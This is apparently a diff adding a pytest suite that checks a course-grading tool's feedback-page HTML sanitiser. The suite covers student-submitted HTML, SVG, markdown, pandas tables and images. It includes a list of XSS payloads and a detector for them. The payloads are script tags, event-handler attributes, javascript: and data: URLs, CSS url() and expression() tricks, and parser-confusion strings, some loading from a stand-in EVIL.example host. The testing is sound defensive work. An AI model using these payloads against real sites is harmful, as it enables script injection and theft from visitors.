@@ -1,0 +1,213 @@
+"""A student's HTML in a feedback page is harmless; what the course and its students rightly show is all there."""
+
+from __future__ import annotations
+
+import re
+
+import nbformat
+import pandas as pd
+import pytest
+from bs4 import BeautifulSoup
+from nbformat import NotebookNode
+from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output
+
+from chainrule.course import Course, Unit
+from chainrule.grading import feedback
+from chainrule.grading.feedback import FeedbackPage, Grades, as_text, clean
+from chainrule.grading.judging import _output
+from chainrule.grading.submission import Standing
+from chainrule.judge.verdict import Status, Verdict
+from chainrule.nbgrading import course_config
+
+
+@pytest.fixture(scope="module")
+def maker(tiny: Unit) -> FeedbackPage:
+    return FeedbackPage(course_config(tiny.root))
+
+
+def page(maker: FeedbackPage, *cells: NotebookNode) -> str:
+    nb = new_notebook(cells=list(cells), metadata={"language_info": {"name": "python"}})
+    graded = [cell.metadata.nbgrader.grade_id for cell in cells if "nbgrader" in cell.metadata]
+    return maker.make(nb, Grades("tiny", dict.fromkeys(graded, 1.0), {}, None, Standing()))
+
+
+def shows(data: dict[str, str], **metadata: object) -> NotebookNode:
+    return new_code_cell("x", outputs=[new_output("display_data", data=data, metadata=metadata)])
+
+
+ATTACKS = [
+    "<script>alert('EVIL')</script>",
+    "<ScRiPt src='//EVIL.example/x.js'></sCrIpT>",
+    "<img src=x onerror=alert('EVIL')>",
+    "<b onmouseover=alert('EVIL')>b</b>",
+    "<a href='javascript:alert(1)//EVIL'>a</a>",
+    "<a href='  java\tscript:alert(1)//EVIL'>a</a>",
+    "<a href='data:text/html,EVIL'>a</a>",
+    "<img src='data:text/html;base64,EVIL'>",
+    "<iframe src='//EVIL.example'></iframe>",
+    "<iframe srcdoc='<p>EVIL</p>'></iframe>",
+    "<object data='EVIL.swf'></object><embed src='EVIL'>",
+    "<form action='//EVIL'><input name=EVIL><button>b</button></form>",
+    "<svg><script>EVIL</script></svg><svg onload=EVIL>",
+    "<math><mtext><table><mglyph><style><img src=EVIL onerror=EVIL>",
+    "<noscript><p title='</noscript><img src=x onerror=EVIL>'></noscript>",
+    "<style>body{background:url(//EVIL)}</style>",
+    "<p style='background:url(//EVIL)'>p</p>",
+    "<p style='background:u\\72l(//EVIL)'>p</p>",
+    "<p style='position:fixed;x:expression(EVIL)'>p</p>",
+    "<base href='//EVIL'><link rel=stylesheet href='//EVIL'><meta http-equiv=refresh content='0;//EVIL'>",
+    "<textarea><script>EVIL</script></textarea>",
+    "<!-- <script>EVIL</script> -->",
+    "<template><script>EVIL</script></template>",
+]
+
+
+def harmful(text: str) -> list[str]:
+    """What a browser would run, load or send of a page, beside the template's own MathJax."""
+    soup = BeautifulSoup(text, "html.parser")
+    found = [str(tag) for tag in soup.find_all(["script", "iframe", "object", "embed", "form", "base", "link", "meta"])]
+    found = [tag for tag in found if "EVIL" in tag]
+    for tag in soup.find_all(True):
+        for name, value in tag.attrs.items():
+            if name.startswith("on") or "script:" in str(value).replace("\t", "") or "EVIL" in str(value):
+                found.append(f"{tag.name} {name}={value}")
+    return found
+
+
+@pytest.mark.parametrize("text", ATTACKS)
+@pytest.mark.parametrize("way", ["output", "markdown output", "markdown cell", "comment"])
+def test_no_attack_is_left(maker: FeedbackPage, text: str, way: str) -> None:
+    """Nothing runs, loads or sends, whichever way the HTML comes in."""
+    cell = {
+        "output": shows({"text/html": text}),
+        "markdown output": shows({"text/markdown": text}),
+        "markdown cell": new_markdown_cell(text),
+        "comment": new_markdown_cell(f"one\n\n{text}\n\ntwo"),
+    }[way]
+    assert harmful(page(maker, cell, new_markdown_cell("the END"))) == []
+
+
+def test_search_sees_attacks() -> None:
+    """What the tests look for is found where nothing is cleaned."""
+    assert [text for text in ATTACKS if "onerror" in text and "<style" not in text and not harmful(text)] == []
+    assert harmful(ATTACKS[0])
+    assert harmful(ATTACKS[4])
+    assert harmful(ATTACKS[8])
+
+
+def test_sizes_of_pictures_are_numbers(maker: FeedbackPage) -> None:
+    """The template puts a picture's size into its tag without quotes."""
+    png = {"image/png": "aGk="}
+    text = page(maker, shows(png, **{"image/png": {"width": "1 onerror=EVIL", "height": 7}}))
+    assert harmful(text) == []
+    (image,) = BeautifulSoup(text, "html.parser").find_all("img")
+    assert image.attrs == {
+        "src": "data:image/png;base64,aGk=",
+        "height": "7",
+        "alt": "No description has been provided for this image",
+    }
+    text = page(maker, shows(png, filenames={"image/png": "//EVIL.example/x.png"}))
+    assert harmful(text) == []
+
+
+@pytest.mark.parametrize("mime", ["application/javascript", "application/vnd.jupyter.widget-view+json"])
+def test_scripts_by_mime_type_are_left_out(maker: FeedbackPage, mime: str) -> None:
+    data: dict[str, object] = {mime: "EVIL()" if mime.endswith("script") else {"model_id": "EVIL"}}
+    assert "EVIL" not in page(maker, shows(data))  # type: ignore[arg-type]
+
+
+def test_svg_is_a_picture(maker: FeedbackPage) -> None:
+    """As an image an SVG runs nothing."""
+    text = page(maker, shows({"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg'><script>EVIL</script></svg>"}))
+    assert harmful(text) == []
+    assert re.search(r'<img [^>]*src="data:image/svg\+xml;base64,', text)
+
+
+def test_pandas_table_is_whole(maker: FeedbackPage) -> None:
+    """Its tags, classes and numbers; the scoped style goes, and is not shown as text either."""
+    frame = pd.DataFrame({"a": [1.5, 2], "b": ["x", "<y>"]}, index=pd.Index([3, 4], name="i"))
+    text = page(maker, shows({"text/html": frame._repr_html_()}))
+    soup = BeautifulSoup(text, "html.parser").select_one(".output_html")
+    assert soup is not None
+    table = soup.find("table")
+    assert table is not None
+    assert table.attrs == {"border": "1", "class": ["dataframe"]}
+    assert [cell.get_text() for cell in table.find_all("td")] == ["1.5", "x", "2.0", "<y>"]
+    assert soup.find("tr")["style"].startswith("text-align: right")
+    assert "vertical-align" not in soup.get_text()
+
+
+def test_verdict_is_whole(maker: FeedbackPage, tiny: Unit) -> None:
+    """With its bar and its colours; and what a student's code said in it is text."""
+    cell = new_code_cell("check", metadata={"nbgrader": {"grade": True, "grade_id": "total-check", "points": 1}})
+    verdict = Verdict("total", Status.WRONG, 0.0, 1.0, "`total` is <script>EVIL</script>.")
+    cell.outputs = [_output(verdict, cell)]
+    html = cell.outputs[0]["data"]["text/html"]
+    text = page(maker, cell)
+    assert html in text
+    assert harmful(text) == []
+
+
+def test_forged_verdict_is_no_verdict(maker: FeedbackPage) -> None:
+    """Beside a test cell, a verdict's data open no door; in one, the words are made anew from them."""
+    forged = {"text/html": ATTACKS[0], feedback.VERDICT_MIME: "{}"}
+    assert harmful(page(maker, shows(forged))) == []
+
+
+def test_mathematics_is_left_to_mathjax(maker: FeedbackPage) -> None:
+    text = page(maker, new_markdown_cell(r"Here $a_1 < b^*_2$ and $$\frac{x}{y} & z$$ and \(c\)."))
+    assert r"$a_1 &lt; b^*_2$" in text
+    assert r"$$\frac{x}{y} &amp; z$$" in text
+
+
+def test_every_units_prose_is_unharmed(course: Course, maker: FeedbackPage) -> None:
+    """What authors wrote passes as it is: cleaning takes nothing out of any unit's text."""
+    for unit in course.units():
+        for cell in unit.handed_out.cells:
+            if cell.cell_type == "markdown":
+                plain = super(feedback.FeedbackExporter, maker.exporter).markdown2html({}, cell.source)
+                kept = maker.exporter._clean_markdown(cell.source)
+                seen = [BeautifulSoup(text, "html.parser") for text in (plain, kept)]
+                assert seen[0].get_text() == seen[1].get_text(), unit.name
+                names = [[(tag.name, sorted(tag.attrs)) for tag in soup.find_all(True)] for soup in seen]
+                assert names[0] == names[1], (unit.name, cell.source)
+
+
+@pytest.mark.parametrize("text", ["<b>" * 100_000, "<" * 100_000, "<div>" * 3000, "x" * 300_000])
+def test_excess_is_bounded_text(text: str) -> None:
+    """What is too long, or nested too deeply for the parser, is shown as the text that it is, or is cleaned."""
+    assert len(clean(text)) < 5 * feedback.MAX_HTML
+    assert harmful(clean(text + ATTACKS[0])) == []
+    assert len(as_text(text)) < 5 * feedback.MAX_HTML + 200
+
+
+def test_what_is_kept_is_bounded(maker: FeedbackPage) -> None:
+    """Neither a long text nor a new one in each notebook fills the memory."""
+    feedback._kept_clean.cache_clear()
+    clean("<p>" + "x" * feedback.SHORT)
+    assert feedback._kept_clean.cache_info().currsize == 0
+    clean("<p>short")
+    clean("<p>short")
+    info = feedback._kept_clean.cache_info()
+    assert (info.currsize, info.hits, info.maxsize) == (1, 1, feedback.KEPT)
+
+
+def test_notebooks_pages_do_not_mix(maker: FeedbackPage) -> None:
+    """One exporter for many: nothing of one student's page is in the next one's."""
+    first = page(maker, new_markdown_cell("mine ALONE"), shows({"text/plain": "ALONE"}))
+    second = page(maker, new_markdown_cell("yours"))
+    assert "ALONE" in first
+    assert "ALONE" not in second
+    assert page(maker, new_markdown_cell("yours")) == second
+
+
+def test_attached_picture_is_its_cells_own(maker: FeedbackPage) -> None:
+    """Two cells of one text, each with a picture of its own."""
+    cells = [
+        nbformat.from_dict(
+            {**new_markdown_cell("![p](attachment:p.png)"), "attachments": {"p.png": {"image/png": data}}}
+        )
+        for data in ("Zmlyc3Q=", "c2Vjb25k")
+    ]
+    text = page(maker, *cells)
+    assert text.count("data:image/png;base64,Zmlyc3Q=") == text.count("data:image/png;base64,c2Vjb25k") == 1
